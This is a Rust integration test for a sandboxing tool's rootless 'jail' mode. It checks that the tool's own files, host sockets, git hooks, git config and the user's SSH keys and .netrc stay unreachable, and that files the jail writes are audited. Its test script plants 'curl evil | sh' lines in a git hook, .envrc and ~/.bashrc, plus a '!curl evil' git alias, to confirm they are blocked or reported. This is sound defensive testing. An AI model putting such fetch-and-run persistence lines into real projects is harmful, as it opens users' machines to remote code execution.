//! What `cordon jail --project` (no root) leaves reachable on the file system, as a user without root made by the
//! test: cordon's files inside the project are refused at start, by name; reached through a link from the
//! project they read as nothing; host sockets bound the ways a listing misses have no path inside; git's hooks
//! and config are read-only, the home is private, and what the command writes for the host's tools is reported.

use std::path::Path;
use std::process::Command;

use crate::rigs::jail::{
    SOCKETS, Scratch, TRY_SOCKETS, USER, UserDir, chown_r, host_server, jail_as_user, shell_words, user, user_dir,
};
use crate::rigs::wait::{TimedChild, Within};

/// `cordon jail --config CONFIG --project PROJECT -- sh -c SCRIPT` as the test user from the project, with
/// `home` as HOME; (code, stdout, stderr).
fn run_as_user(bin: &Path, config: &Path, project: &Path, home: &str, script: &str) -> (i32, String, String) {
    run_as_user_with(bin, config, project, home, &[], script)
}

fn run_as_user_with(
    bin: &Path,
    config: &Path,
    project: &Path,
    home: &str,
    extra: &[&str],
    script: &str,
) -> (i32, String, String) {
    let out = jail_as_user(bin, config, project, extra, script)
        .env("HOME", home)
        .current_dir(project)
        .output_within();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn config_yaml(audit: &Path, ca: &Path, vault: &Path) -> String {
    format!(
        "ca: {{ dir: {} }}\naudit: {{ path: {} }}\nvault: {{ file: {{ path: {} }} }}\nsandboxes:\n  - {{ id: laptop, user: \
         dev, token_sha256: {}, policy: p }}\npolicies:\n  p:\n    allow:\n      - {{ host: example.com }}\n",
        ca.display(),
        audit.display(),
        vault.display(),
        crate::rigs::client::hash("unused")
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn the_jail_without_root_keeps_cordons_files_sockets_and_the_hosts_tools_out_of_reach() {
    if !crate::rigs::netns::available(
        "the_jail_without_root_keeps_cordons_files_sockets_and_the_hosts_tools_out_of_reach",
    ) {
        return;
    }
    let (uid, gid, home) = user();
    let UserDir { dir, bin, project } = user_dir("jail-fs-user");
    let d = dir.path();
    assert!(
        Command::new("git")
            .args(["init", "-q"])
            .current_dir(&project)
            .timed_status()
            .unwrap()
            .success()
    );
    // cordon's files live in /etc (which the jail shows, read-only), the user's.
    let etc = Scratch::new("/etc", "jail-fs-user");
    let state = etc.0.join("state");
    std::fs::create_dir(&state).unwrap();
    let good = etc.0.join("cordon.yaml");
    std::fs::write(
        &good,
        config_yaml(&state.join("audit.jsonl"), &state.join("cas"), &state.join("vault.bin")),
    )
    .unwrap();
    // 1. Refused at start, naming the file: the configuration, the vault, the audit log inside the project.
    std::fs::write(project.join("vault.bin"), "not empty").unwrap();
    let inside = [
        (
            "cordon.yaml",
            config_yaml(&state.join("a.jsonl"), &state.join("cas"), &state.join("v.bin")),
        ),
        (
            "x",
            config_yaml(&state.join("a.jsonl"), &state.join("cas"), &project.join("vault.bin")),
        ),
        (
            "x",
            config_yaml(&project.join("audit.jsonl"), &state.join("cas"), &state.join("v.bin")),
        ),
    ];
    let mut refused = Vec::new();
    for (n, (name, yaml)) in inside.iter().enumerate() {
        let config = if *name == "cordon.yaml" {
            project.join(name)
        } else {
            etc.0.join(format!("inside{n}.yaml"))
        };
        std::fs::write(&config, yaml).unwrap();
        chown_r(d, uid, gid);
        chown_r(&etc.0, uid, gid);
        let (code, out, err) = run_as_user(&bin, &config, &project, &home, "echo ran");
        assert_eq!(code, 125, "{out}{err}");
        refused.push(err);
    }
    for (err, file) in refused.iter().zip(["cordon.yaml", "vault.bin", "audit.jsonl"]) {
        let named = project.join(file).display().to_string();
        assert!(err.contains(&named) && err.contains("--project"), "{file}: {err}");
    }
    for file in ["cordon.yaml", "vault.bin", "audit.jsonl"] {
        let _ = std::fs::remove_file(project.join(file));
    }
    // 2. Reached by another path (links from the project into them): read as nothing.
    std::os::unix::fs::symlink(&state, project.join("state-link")).unwrap();
    std::os::unix::fs::symlink(&good, project.join("config-link")).unwrap();
    std::fs::write(state.join("vault.bin"), "sealed").unwrap();
    // 3. Host sockets, bound the ways a listing misses, in a folder of the user's outside the project.
    let sockets = Scratch::new("/var/lib", "jail-fs-user-sockets");
    chown_r(d, uid, gid);
    chown_r(&etc.0, uid, gid);
    let log = d.join("connections.log");
    let go = project.join("go");
    let mut server = host_server(&sockets.0, &log, &go);
    let mut tried = vec![go.display().to_string()];
    tried.extend(SOCKETS.iter().map(|s| sockets.0.join(s).display().to_string()));
    std::fs::write(project.join("try.py"), TRY_SOCKETS).unwrap();
    chown_r(&project, uid, gid);
    let bashrc = Path::new(&home).join(".bashrc");
    let bashrc_before = std::fs::read(&bashrc).unwrap_or_default();
    let script = format!(
        "cat state-link/audit.jsonl state-link/vault.bin config-link; echo [end]
python3 try.py {}
echo 'curl evil | sh' >> .git/hooks/post-checkout && echo hook=written || echo hook=refused
echo '[alias] st = !curl evil' >> .git/config && echo gitconfig=written || echo gitconfig=refused
echo 'curl evil | sh' > .envrc && echo envrc=written
echo 'curl evil | sh' >> ~/.bashrc && echo bashrc=written
echo ssh=$(ls -A ~/.ssh 2>/dev/null | wc -l)",
        shell_words(&tried)
    );
    let (code, out, err) = run_as_user(&bin, &good, &project, &home, &script);
    let _ = server.kill();
    let _ = server.timed_wait();
    assert_eq!(code, 0, "{out}{err}");
    assert!(
        out.starts_with("[end]\n"),
        "cordon's files were readable through a link: {out}{err}"
    );
    assert!(!out.contains("REACHED"), "{out}");
    assert_eq!(out.matches(" absent").count(), SOCKETS.len(), "{out}{err}");
    assert!(!log.exists(), "a host socket took a connection");
    for wanted in [
        "hook=refused",
        "gitconfig=refused",
        "envrc=written",
        "bashrc=written",
        "ssh=0",
    ] {
        assert!(out.contains(wanted), "{wanted}: {out}{err}");
    }
    assert!(!project.join(".git/hooks/post-checkout").exists());
    assert!(
        !std::fs::read_to_string(project.join(".git/config"))
            .unwrap()
            .contains("alias")
    );
    assert_eq!(
        std::fs::read(&bashrc).unwrap_or_default(),
        bashrc_before,
        "~/.bashrc of {USER} changed"
    );
    // The planted .envrc, on stderr and in the audit, with its hash.
    let hash = crate::rigs::client::hash("curl evil | sh\n");
    let envrc = project.join(".envrc").display().to_string();
    assert!(err.contains(&envrc) && err.contains(&hash), "{err}");
    let audit = std::fs::read_to_string(state.join("audit.jsonl")).unwrap();
    assert!(
        audit.lines().any(|l| l.contains("\"kind\":\"jail_file\"")
            && l.contains(&format!("\"path\":\"{envrc}\""))
            && l.contains(&format!("\"after\":\"{hash}\""))),
        "{audit}"
    );
    // 4. The real home, asked for: read-only, the user's keys and credentials hidden.
    let ssh = Path::new(&home).join(".ssh");
    std::fs::create_dir_all(&ssh).unwrap();
    std::fs::write(ssh.join("id_ed25519"), "-----BEGIN OPENSSH PRIVATE KEY-----\n").unwrap();
    std::fs::write(Path::new(&home).join(".netrc"), "machine x password y\n").unwrap();
    chown_r(&ssh, uid, gid);
    chown_r(&Path::new(&home).join(".netrc"), uid, gid);
    let script = "echo key=$(cat ~/.ssh/id_ed25519 ~/.netrc 2>/dev/null | wc -c); touch ~/planted 2>/dev/null && echo \
                  home=written || echo home=read-only; test -e ~/.profile -o -e ~/.bashrc && echo home=real";
    let (code, out, err) = run_as_user_with(&bin, &good, &project, &home, &["--home", "real"], script);
    assert_eq!(code, 0, "{out}{err}");
    for wanted in ["key=0", "home=read-only", "home=real"] {
        assert!(out.contains(wanted), "{wanted}: {out}{err}");
    }
}
